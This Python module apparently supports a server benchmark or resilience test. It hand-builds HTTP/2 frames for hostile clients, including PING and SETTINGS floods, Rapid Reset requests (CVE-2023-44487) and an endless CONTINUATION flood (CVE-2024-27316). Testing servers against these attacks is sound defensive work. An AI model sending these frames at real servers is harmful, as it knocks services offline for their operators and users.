"""HTTP/2 frames of hostile clients (RFC 9113), made once and sent without a library."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Final

from hpack import Encoder

if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    *(0, 1, 3, 4, 6),
    *(7, 8, 9),
)
ACK: Final = 1
END_STREAM: Final = 1
END_HEADERS: Final = 4
INITIAL_WINDOW_SIZE: Final = 4
"""The identifier of this setting."""
LARGEST_FRAME: Final = 16_384

NAMES: Final = {
    DATA: "DATA",
    HEADERS: "HEADERS",
    RST_STREAM: "RST_STREAM",
    SETTINGS: "SETTINGS",
    PING: "PING",
    GOAWAY: "GOAWAY",
    WINDOW_UPDATE: "WINDOW_UPDATE",
    CONTINUATION: "CONTINUATION",
}

_HEADER_BYTES: Final = 9


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    length = len(payload)
    return struct.pack(">BHBBL", length >> 16, length & 0xFFFF, kind, flags, stream) + payload


PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)
"""The preface of a client with prior knowledge, with default settings."""


class FrameReader:
    """Split a stream into frames."""

    def __init__(self) -> None:
        self._rest = b""

    def feed(self, data: bytes) -> Iterator[tuple[int, int, int, bytes]]:
        """Yield type, flags, stream and payload of every complete frame."""
        data = self._rest + data
        start = 0
        while len(data) - start >= _HEADER_BYTES:
            high, low, kind, flags, stream = struct.unpack_from(">BHBBL", data, start)
            end = start + _HEADER_BYTES + (high << 16 | low)
            if end > len(data):
                break
            yield kind, flags, stream & 0x7FFF_FFFF, data[start + _HEADER_BYTES : end]
            start = end
        self._rest = data[start:]


def header_block(method: str, path: str, *more: tuple[str, str]) -> bytes:
    """Return a header block that is valid at any point of any connection."""
    first = [(":method", method), (":scheme", "http"), (":path", path), (":authority", "bench")]
    # A new encoder does not refer to entries of earlier blocks in the dynamic table.
    block: bytes = Encoder().encode([*first, *more])
    return block


def pings(count: int) -> bytes:
    """Return ``count`` PING frames, each of which has to be answered."""
    return frame(PING, 0, 0, b"12345678") * count


def settings(count: int) -> bytes:
    """Return ``count`` empty SETTINGS frames, each of which has to be acknowledged."""
    return frame(SETTINGS, 0, 0) * count


def requests(streams: Iterable[int], *, reset: bool) -> bytes:
    """Return a GET on each stream, cancelled immediately with ``reset`` (CVE-2023-44487)."""
    block = header_block("GET", "/healthz")
    frames = []
    for stream in streams:
        frames.append(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
        if reset:
            frames.append(frame(RST_STREAM, 0, stream, struct.pack(">L", 8)))
    return b"".join(frames)


def endless_headers(count: int) -> bytes:
    """Return a head without end: ``count`` small CONTINUATION frames (CVE-2024-27316)."""
    first = frame(HEADERS, 0, 1, header_block("GET", "/healthz"))
    # A literal without indexing, of a name and a value of one byte.
    return first + frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * count
